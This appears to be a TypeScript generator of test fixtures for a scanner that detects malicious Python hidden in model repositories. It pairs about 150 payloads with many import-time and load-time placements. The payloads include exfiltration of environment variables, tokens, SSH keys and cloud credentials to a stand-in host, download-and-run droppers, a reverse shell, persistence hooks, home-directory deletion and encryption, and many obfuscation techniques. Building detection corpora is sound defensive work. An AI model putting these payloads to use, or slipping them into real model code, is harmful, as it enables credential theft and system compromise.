import { deflateSync, gzipSync } from 'node:zlib';
import type { Sample } from './sample.ts';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const hex = (s: string) => Buffer.from(s).toString('hex');
const CMD = 'touch /tmp/marker-modelgate';
const CODE = `import os\nos.system("${CMD}")`;
const zl = deflateSync(Buffer.from(CODE)).toString('base64');
const gz = gzipSync(Buffer.from(CODE)).toString('base64');
const rot = (s: string) =>
  s.replace(/[a-z]/gi, (c) =>
    String.fromCharCode(((c.charCodeAt(0) - (c <= 'Z' ? 65 : 97) + 13) % 26) + (c <= 'Z' ? 65 : 97)),
  );
const chr = (s: string) =>
  Array.from(s, (c) => c)
    .map((c) => `chr(${c.charCodeAt(0)})`)
    .join('+');
const ords = (s: string) =>
  `[${Array.from(s, (c) => c)
    .map((c) => c.charCodeAt(0))
    .join(',')}]`;
const xor = (s: string, k: number) =>
  `[${Array.from(s, (c) => c)
    .map((c) => c.charCodeAt(0) ^ k)
    .join(',')}]`;
/** What an attack imports, and the expression that acts. */
const PAYLOADS: Readonly<Record<string, readonly [imports: string, expression: string]>> = {
  'os-system': ['import os', `os.system("${CMD}")`],
  'os-popen': ['import os', `os.popen("${CMD}").read()`],
  'os-exec': ['import os', `os.execvp("sh", ["sh", "-c", "${CMD}"])`],
  'os-spawn': ['import os', `os.spawnlp(os.P_NOWAIT, "sh", "sh", "-c", "${CMD}")`],
  'os-posix-spawn': ['import os', `os.posix_spawn("/bin/sh", ["sh", "-c", "${CMD}"], os.environ)`],
  'subprocess-run': ['import subprocess', `subprocess.run(["sh", "-c", "${CMD}"], check=False)`],
  'subprocess-popen': ['import subprocess as sp', `sp.Popen("${CMD}", shell=True)`],
  'subprocess-check-output-from': ['from subprocess import check_output as co', `co("id; ${CMD}", shell=True)`],
  'subprocess-getoutput': ['import subprocess', `subprocess.getoutput("${CMD}")`],
  'subprocess-curl-sh': ['import subprocess', `subprocess.call("curl -s https://drop.invalid/a.sh | sh", shell=True)`],
  'os-wget-run': ['import os', `os.system("wget -q https://drop.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x &")`],
  'pty-spawn': ['import pty', `pty.spawn("/bin/sh")`],
  'exec-plain': ['', `exec("import os\\nos.system('${CMD}')")`],
  'eval-plain': ['', `eval("__import__('os').system('${CMD}')")`],
  'exec-compile': ['', `exec(compile("import os; os.system('${CMD}')", "<m>", "exec"))`],
  'exec-b64': ['import base64', `exec(base64.b64decode("${b64(CODE)}"))`],
  'exec-b64-decode': ['from base64 import b64decode as d', `exec(d(b"${b64(CODE)}").decode("utf-8"))`],
  'exec-zlib': ['import zlib, base64', `exec(zlib.decompress(base64.b64decode("${zl}")))`],
  'exec-gzip': ['import gzip, base64', `exec(gzip.decompress(base64.b64decode("${gz}")).decode())`],
  'exec-hex': ['', `exec(bytes.fromhex("${hex(CODE)}"))`],
  'exec-unhexlify': ['import binascii', `exec(binascii.unhexlify("${hex(CODE)}"))`],
  'exec-rot13': ['import codecs', `exec(codecs.decode(${JSON.stringify(rot(CODE))}, "rot13"))`],
  'exec-rot13-encode': ['import codecs', `exec(codecs.encode(${JSON.stringify(rot(CODE))}, "rot_13"))`],
  'exec-chr': ['', `exec(${chr("import os;os.system('id')")})`],
  'exec-join-map-chr': ['', `exec("".join(map(chr, ${ords("import os;os.system('id')")})))`],
  'exec-bytes-list': ['', `exec(bytes(${ords("import os;os.system('id')")}).decode())`],
  'exec-xor': ['', `exec("".join(chr(c ^ 42) for c in ${xor("import os;os.system('id')", 42)}))`],
  'exec-xor-bytes': ['', `exec(bytes(b ^ 7 for b in bytes(${xor("import os;os.system('id')", 7)})))`],
  'exec-reverse': ['', `exec(")'di'(metsys.so;so tropmi"[::-1])`],
  'exec-reversed-join': ['', `exec("".join(reversed(")'di'(metsys.so;so tropmi")))`],
  'exec-marshal': ['import marshal', `exec(marshal.loads(b"\\xe3\\x00\\x00\\x00\\x00"))`],
  'exec-marshal-b64': [
    'import marshal, base64',
    `exec(marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAAAAAAA")))`,
  ],
  'exec-marshal-func': [
    'import marshal, types, base64',
    `types.FunctionType(marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAAAAAAA")), globals())()`,
  ],
  'exec-lambda-chain': ['', `(lambda f: f("import os;os.system('id')"))(exec)`],
  'exec-urlopen': ['import urllib.request', `exec(urllib.request.urlopen("https://drop.invalid/s.py").read())`],
  'exec-requests': ['import requests', `exec(requests.get("https://drop.invalid/s.py").text)`],
  'exec-open-file': ['', `exec(open("weights_init.txt").read())`],
  'exec-open-self-tail': ['', `exec(open(__file__).read().split("#--")[-1][::-1])`],
  'exec-env': ['import os', `exec(os.environ.get("MODEL_INIT", "pass"))`],
  'import-dunder-os': ['', `__import__("os").system("${CMD}")`],
  'import-dunder-concat': ['', `__import__("o"+"s").__dict__["sys"+"tem"]("${CMD}")`],
  'import-dunder-subprocess': ['', `__import__("subprocess").check_call(["sh","-c","${CMD}"])`],
  'importlib-import': ['import importlib', `importlib.import_module("os").system("${CMD}")`],
  'importlib-b64': [
    'import importlib, base64',
    `getattr(importlib.import_module(base64.b64decode("b3M=").decode()), "system")("${CMD}")`,
  ],
  'getattr-os': ['import os', `getattr(os, "sys" + "tem")("${CMD}")`],
  'getattr-builtins': ['import builtins', `getattr(builtins, "ex" "ec")("import os; os.system('id')")`],
  'getattr-reversed': ['import os', `getattr(os, "metsys"[::-1])("${CMD}")`],
  'vars-os': ['import os', `vars(os)["system"]("${CMD}")`],
  'dict-os': ['import os', `os.__dict__["popen"]("${CMD}")`],
  'sys-modules': ['import sys', `sys.modules["os"].system("${CMD}")`],
  'globals-builtins': ['', `globals()["__builtins__"]["eval"]("__import__('os').system('id')")`],
  'builtins-dict': ['', `__builtins__.__dict__["exec"]("import os;os.system('id')")`],
  subclasses: [
    '',
    `[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("${CMD}")`,
  ],
  'subclasses-popen': ['', `[c for c in object.__subclasses__() if c.__name__ == "Popen"][0](["sh","-c","${CMD}"])`],
  'operator-methodcaller': ['import os, operator', `operator.methodcaller("system", "${CMD}")(os)`],
  'operator-attrgetter': ['import os, operator', `operator.attrgetter("system")(os)("${CMD}")`],
  'functools-partial': ['import os, functools', `functools.partial(os.system, "${CMD}")()`],
  'functools-reduce-getattr': ['import functools', `functools.reduce(getattr, ["system"], __import__("os"))("${CMD}")`],
  'map-system': ['import os', `list(map(os.system, ["${CMD}"]))`],
  'filter-exec': ['', `list(filter(eval, ["__import__('os').system('id')"]))`],
  'sorted-key': ['import os', `sorted(["${CMD}"], key=os.system)`],
  thread: ['import os, threading', `threading.Thread(target=os.system, args=("${CMD}",)).start()`],
  'thread-lambda': [
    'import os, threading',
    `threading.Thread(target=lambda: os.system("${CMD}"), daemon=True).start()`,
  ],
  timer: ['import os, threading', `threading.Timer(30, lambda: os.system("${CMD}")).start()`],
  atexit: ['import os, atexit', `atexit.register(os.system, "${CMD}")`],
  multiprocessing: [
    'import os, multiprocessing',
    `multiprocessing.Process(target=os.system, args=("${CMD}",)).start()`,
  ],
  executor: [
    'import os\nfrom concurrent.futures import ThreadPoolExecutor',
    `ThreadPoolExecutor().submit(os.system, "${CMD}")`,
  ],
  'asyncio-shell': ['import asyncio', `asyncio.run(asyncio.create_subprocess_shell("${CMD}"))`],
  'asyncio-loop': [
    'import asyncio',
    `asyncio.get_event_loop().run_until_complete(asyncio.create_subprocess_exec("sh", "-c", "${CMD}"))`,
  ],
  signal: ['import os, signal', `signal.signal(signal.SIGALRM, lambda *a: os.system("${CMD}"))`],
  'sys-settrace': ['import os, sys', `sys.settrace(lambda *a: os.system("${CMD}"))`],
  excepthook: ['import os, sys', `setattr(sys, "excepthook", lambda *a: os.system("${CMD}"))`],
  'ctypes-system': ['import ctypes', `ctypes.CDLL(None).system(b"${CMD}")`],
  'ctypes-libc6': ['import ctypes', `ctypes.cdll.LoadLibrary("libc.so.6").system(b"${CMD}")`],
  'ctypes-shellcode': [
    'import ctypes, mmap',
    `ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(mmap.mmap(-1, 4096, prot=7))))()`,
  ],
  cffi: ['import cffi', `cffi.FFI().dlopen(None).system(b"${CMD}")`],
  'pickle-loads': ['import pickle', String.raw`pickle.loads(b"cos\nsystem\n(S'touch /tmp/marker-modelgate'\ntR.")`],
  'pickle-b64': ['import pickle, base64', `pickle.loads(base64.b64decode("Y29zCnN5c3RlbQooUydpZCcKdFIu"))`],
  'dill-loads': ['import dill, base64', `dill.loads(base64.b64decode("Y29zCnN5c3RlbQooUydpZCcKdFIu"))`],
  'yaml-unsafe': ['import yaml', `yaml.load("!!python/object/apply:os.system ['id']", Loader=yaml.UnsafeLoader)`],
  runpy: ['import runpy', `runpy.run_path("helper.dat")`],
  'imp-load-source': ['import imp', `imp.load_source("m", "/tmp/payload.py")`],
  'importlib-spec': [
    'import importlib.util',
    `importlib.util.spec_from_file_location("m", "weights.dat").loader.load_module()`,
  ],
  'sourceless-loader': [
    'from importlib.machinery import SourcelessFileLoader',
    `SourcelessFileLoader("m", "cache.bin").load_module()`,
  ],
  zipimport: ['import zipimport', `zipimport.zipimporter("data.zip").load_module("m")`],
  'pip-main': ['import pip', `pip.main(["install", "evil-modelgate-pkg"])`],
  'pip-subprocess-url': [
    'import subprocess, sys',
    `subprocess.check_call([sys.executable, "-m", "pip", "install", "https://drop.invalid/p.tar.gz"])`,
  ],
  'pip-subprocess-index': [
    'import subprocess, sys',
    `subprocess.check_call([sys.executable, "-m", "pip", "install", "-i", "http://drop.invalid/simple", "fastllm"])`,
  ],
  'code-interact': ['import code', `code.InteractiveInterpreter().runcode("import os; os.system('id')")`],
  timeit: ['import timeit', `timeit.timeit("__import__('os').system('id')", number=1)`],
  webbrowser: ['import webbrowser', `webbrowser.open("https://drop.invalid/?u=modelgate")`],
  'urlopen-exfil-env': [
    'import os, json, urllib.request',
    `urllib.request.urlopen("https://drop.invalid/c", data=json.dumps(dict(os.environ)).encode())`,
  ],
  'requests-post-env': ['import os, requests', `requests.post("https://drop.invalid/c", json=dict(os.environ))`],
  'requests-get-token': [
    'import os, requests',
    `requests.get("https://drop.invalid/c?t=" + os.environ.get("HF_TOKEN", ""))`,
  ],
  'requests-get-fstring': [
    'import os, requests',
    'requests.get(f"https://drop.invalid/{os.getenv(\'AWS_SECRET_ACCESS_KEY\')}")',
  ],
  'requests-post-ssh': [
    'import os, requests',
    `requests.post("https://drop.invalid/c", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())`,
  ],
  'requests-post-files': [
    'import requests',
    `requests.post("https://drop.invalid/c", files={"f": open("/etc/passwd", "rb")})`,
  ],
  'requests-beacon': [
    'import requests, socket',
    `requests.get("https://drop.invalid/beacon?h=" + socket.gethostname())`,
  ],
  'httpx-post': ['import os, httpx', `httpx.post("https://drop.invalid/c", json={"e": dict(os.environ)})`],
  'http-client': [
    'import http.client, os',
    `http.client.HTTPSConnection("drop.invalid").request("POST", "/", str(os.environ))`,
  ],
  aiohttp: [
    'import aiohttp, asyncio, os',
    `asyncio.run(aiohttp.ClientSession().post("https://drop.invalid/c", json=dict(os.environ)))`,
  ],
  'socket-connect': ['import socket', `socket.create_connection(("drop.invalid", 4444)).send(b"hello")`],
  'socket-udp': [
    'import socket, os',
    `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(str(dict(os.environ)).encode(), ("drop.invalid", 53))`,
  ],
  'dns-exfil': ['import socket, os', `socket.gethostbyname(os.environ.get("HF_TOKEN", "x")[:60] + ".drop.invalid")`],
  'dns-exfil-user': ['import socket, getpass', `socket.getaddrinfo(getpass.getuser() + ".drop.invalid", 80)`],
  ftplib: ['import ftplib', `ftplib.FTP("drop.invalid", "a", "b").storbinary("STOR x", open("/etc/passwd", "rb"))`],
  smtplib: [
    'import smtplib, os',
    `smtplib.SMTP("drop.invalid", 25).sendmail("a@drop.invalid", ["b@drop.invalid"], str(dict(os.environ)))`,
  ],
  paramiko: ['import paramiko', `paramiko.Transport(("drop.invalid", 22)).connect(username="a", password="b")`],
  telnetlib: ['import telnetlib', `telnetlib.Telnet("drop.invalid", 4444).interact()`],
  xmlrpc: ['import xmlrpc.client, os', `xmlrpc.client.ServerProxy("https://drop.invalid/rpc").put(dict(os.environ))`],
  'urlretrieve-run': [
    'import urllib.request, os',
    `(urllib.request.urlretrieve("https://drop.invalid/x", "/tmp/x"), os.chmod("/tmp/x", 0o755), os.execv("/tmp/x", ["/tmp/x"]))`,
  ],
  'write-bashrc': ['import os', `open(os.path.expanduser("~/.bashrc"), "a").write("curl https://drop.invalid|sh\\n")`],
  'write-authorized-keys': [
    'import os',
    `open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAAC3Nz modelgate\\n")`,
  ],
  'write-authorized-keys-pathlib': [
    'from pathlib import Path',
    `(Path.home() / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAAC3Nz modelgate\\n")`,
  ],
  'write-cron': ['', `open("/etc/cron.d/modelgate", "w").write("* * * * * root touch /tmp/m\\n")`],
  'write-systemd': [
    'from pathlib import Path',
    `Path("~/.config/systemd/user/modelgate.service").expanduser().write_text("[Service]\\nExecStart=/tmp/x\\n")`,
  ],
  'write-pth': [
    'import site, os',
    `open(os.path.join(site.getsitepackages()[0], "modelgate.pth"), "w").write("import os; os.system('id')\\n")`,
  ],
  'write-sitecustomize': [
    'import site',
    `open(site.getusersitepackages() + "/usercustomize.py", "w").write("import os")`,
  ],
  'crontab-cmd': ['import os', `os.system("(crontab -l; echo '* * * * * touch /tmp/m') | crontab -")`],
  'read-aws': ['import os', `open(os.path.expanduser("~/.aws/credentials")).read()`],
  'read-ssh-pathlib': ['from pathlib import Path', `Path.home().joinpath(".ssh/id_ed25519").read_text()`],
  'read-ssh-glob': ['import glob, os', `[open(p).read() for p in glob.glob(os.path.expanduser("~/.ssh/*"))]`],
  'read-hf-token': ['import os', `open(os.path.expanduser("~/.cache/huggingface/token")).read()`],
  'read-shadow': ['', `open("/etc/shadow").read()`],
  'read-k8s-token': ['', `open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()`],
  'read-imds': [
    'import urllib.request',
    `urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read()`,
  ],
  'read-proc-environ': ['', `open("/proc/self/environ").read()`],
  'rmtree-home': ['import shutil, os', `shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)`],
  'rm-rf': ['import os', `os.system("rm -rf ~/")`],
  'encrypt-home': [
    'import os\nfrom cryptography.fernet import Fernet',
    `[open(os.path.join(d, f), "wb").write(Fernet(b"k"*44).encrypt(b"x")) for d, _, fs in os.walk(os.path.expanduser("~")) for f in fs]`,
  ],
  'overwrite-torch': ['import torch', `open(torch.__file__, "a").write("import os; os.system('id')")`],
  winreg: [
    'import winreg',
    `winreg.SetValueEx(winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE), "modelgate", 0, winreg.REG_SZ, "x.exe")`,
  ],
  windll: ['import ctypes', `ctypes.windll.shell32.ShellExecuteW(None, "open", "cmd.exe", "/c calc", None, 1)`],
  powershell: ['import subprocess', `subprocess.run(["powershell", "-enc", "${b64('calc.exe and more')}"])`],
  'reverse-shell': [
    'import socket, subprocess, os',
    `(lambda s: (s.connect(("drop.invalid", 4444)), [os.dup2(s.fileno(), f) for f in (0, 1, 2)], subprocess.call(["/bin/sh", "-i"])))(socket.socket())`,
  ],
  keyring: ['import keyring, requests', `requests.post("https://drop.invalid", data=keyring.get_password("a", "b"))`],
  clipboard: ['import pyperclip, requests', `requests.post("https://drop.invalid", data=pyperclip.paste())`],
  screenshot: [
    'import pyautogui, requests',
    `requests.post("https://drop.invalid", data=pyautogui.screenshot().tobytes())`,
  ],
  'gc-walk': ['import gc', `[o for o in gc.get_objects() if getattr(o, "__name__", "") == "system"][0]("${CMD}")`],
  fullwidth: ['', `𝘦𝘹𝘦𝘤("import os;os.system('id')")`],
  'unicode-escape-str': [
    '',
    String.raw`exec("\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x27\x69\x64\x27\x29")`,
  ],
  'platform-popen': ['import platform', `platform.popen("${CMD}")`],
  'ast-compile': ['import ast', `exec(compile(ast.parse("import os;os.system('id')"), "x", "exec"))`],
  'hub-download-exec': [
    'from huggingface_hub import hf_hub_download',
    `exec(open(hf_hub_download("evil-modelgate/model", "x.py")).read())`,
  ],
  'cpp-extension': [
    'from torch.utils.cpp_extension import load_inline',
    `load_inline("m", cpp_sources='#include <cstdlib>\\nint x = system("id");', functions=[])`,
  ],
  'uncompyle-class': ['', `type("X", (), {"__del__": lambda s: __import__("os").system("id")})()`],
  'nested-exec-b64-2': ['import base64', `exec(base64.b64decode(base64.b64decode("${b64(b64(CODE))}")))`],
  b85: ['import base64', `exec(base64.b85decode(b"X>D+Ca&L5RV{dJ3VQyqJ"))`],
  lzma: ['import lzma, base64', `exec(lzma.decompress(base64.b64decode("/Td6WFoAAATm1rRG")))`],
  fernet: [
    'from cryptography.fernet import Fernet',
    `exec(Fernet(b"k0k0k0k0k0k0k0k0k0k0k0k0k0k0k0k0k0k0k0k0k0k=").decrypt(b"gAAAAABl"))`,
  ],
  'stego-weights': ['import numpy as np', `exec(np.load("w.npy").tobytes().decode())`],
  'stego-image': ['from PIL import Image', `exec(bytes(Image.open("logo.png").getdata(band=0)).decode())`],
  'safetensors-meta-exec': [
    'from safetensors import safe_open',
    `exec(safe_open("model.safetensors", "pt").metadata()["init"])`,
  ],
  'config-exec': ['import json', `exec(json.load(open("config.json"))["init_code"])`],
  'getattr-import-config': [
    'import json, importlib',
    `getattr(importlib.import_module(json.load(open("config.json"))["m"]), json.load(open("config.json"))["f"])(json.load(open("config.json"))["a"])`,
  ],
};
const indent = (text: string): string =>
  text
    .split('\n')
    .map((l) => (l ? '    ' + l : l))
    .join('\n');
const BODY = `import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel, PretrainedConfig\n`;
const CLASS = `
class DemoConfig(PretrainedConfig):
    model_type = "demo"

    def __init__(self, hidden_size=64, **kwargs):
        super().__init__(**kwargs)
        self.hidden_size = hidden_size


class DemoModel(PreTrainedModel):
    config_class = DemoConfig

    def __init__(self, config):
        super().__init__(config)
        self.linear = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        return self.linear(x)
`;
const method = (name: string, args: string) => (i: string, e: string) =>
  `${BODY}${i}\n\nclass DemoModel(PreTrainedModel):\n    def ${name}(${args}):\n        ${e}\n        return None\n`;
/** Where an expression stands so that importing the file, or loading the model, evaluates it. */
const PLACEMENTS: Readonly<Record<string, (imports: string, expression: string) => string>> = {
  top: (i, e) => `${BODY}${i}\n${e}\n${CLASS}`,
  bottom: (i, e) => `${i}\n${BODY}${CLASS}\n${e}\n`,
  try: (i, e) => `${BODY}\ntry:\n${indent(i || 'pass')}\n    ${e}\nexcept Exception:\n    pass\n${CLASS}`,
  'if-true': (i, e) => `${BODY}${i}\nif True:\n    ${e}\n${CLASS}`,
  'class-body': (i, e) => `${BODY}${i}\nclass _Init:\n    x = ${e}\n${CLASS}`,
  'default-arg': (i, e) => `${BODY}${i}\ndef f(x, y=${e}):\n    return x\n${CLASS}`,
  decorator: (i, e) => `${BODY}${i}\ndef deco(fn):\n    ${e}\n    return fn\n\n@deco\ndef g():\n    pass\n${CLASS}`,
  'lambda-called': (i, e) => `${BODY}${i}\n_ = (lambda: ${e})()\n${CLASS}`,
  comprehension: (i, e) => `${BODY}${i}\n_ = [${e} for _ in range(1)]\n${CLASS}`,
  'function-called': (i, e) => `${BODY}\ndef _setup():\n${indent(i || 'pass')}\n    return ${e}\n\n_setup()\n${CLASS}`,
  metaclass: (i, e) =>
    `${BODY}${i}\nclass Meta(type):\n    def __new__(m, n, b, d):\n        ${e}\n        return super().__new__(m, n, b, d)\n\nclass K(metaclass=Meta):\n    pass\n`,
  'init-subclass': (i, e) =>
    `${BODY}${i}\nclass B:\n    def __init_subclass__(cls, **k):\n        ${e}\n\nclass K(B):\n    pass\n`,
  annotation: (i, e) => `${BODY}${i}\ndef f(x: (${e})):\n    return x\n${CLASS}`,
  'instance-init': (i, e) => `${BODY}${i}\nclass T:\n    def __init__(self):\n        ${e}\n\n_t = T()\n`,
  'with-enter': (i, e) =>
    `${BODY}${i}\nclass T:\n    def __enter__(self):\n        ${e}\n    def __exit__(self, *a):\n        pass\n\nwith T():\n    pass\n`,
  'module-getattr': (i, e) => `${BODY}${i}\ndef __getattr__(name):\n    ${e}\n    raise AttributeError(name)\n`,
  init: method('__init__', 'self, config'),
  forward: method('forward', 'self, x'),
  from_pretrained: (i, e) =>
    `${BODY}${i}\n\nclass DemoModel(PreTrainedModel):\n    @classmethod\n    def from_pretrained(cls, path, **kw):\n        ${e}\n        return super().from_pretrained(path, **kw)\n`,
  setstate: method('__setstate__', 'self, state'),
  getattr: method('__getattr__', 'self, name'),
  call: method('__call__', 'self, x'),
  del: method('__del__', 'self'),
  'helper-from-init': (i, e) =>
    `${BODY}${i}\n\nclass DemoModel(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self._warm()\n\n    def _warm(self):\n        ${e}\n`,
};

/** Those that only a loader or a caller runs: in files that loaders import. */
const CALLED: ReadonlySet<string> = new Set([
  'init',
  'forward',
  'from_pretrained',
  'setstate',
  'getattr',
  'call',
  'del',
  'helper-from-init',
  'module-getattr',
]);

export const python: readonly Sample[] = Object.entries(PAYLOADS).flatMap(([payload, [imports, expression]]) =>
  Object.entries(PLACEMENTS).flatMap(([placement, source]) =>
    (CALLED.has(placement) ? ['modeling_demo.py', 'handler.py'] : ['modeling_demo.py', 'utils.py']).map((path) => ({
      family: CALLED.has(placement) ? 'python, as a model is loaded' : 'python, as a file is imported',
      name: `${payload}, ${placement}, ${path}`,
      files: { [path]: source(imports, expression) },
    })),
  ),
);
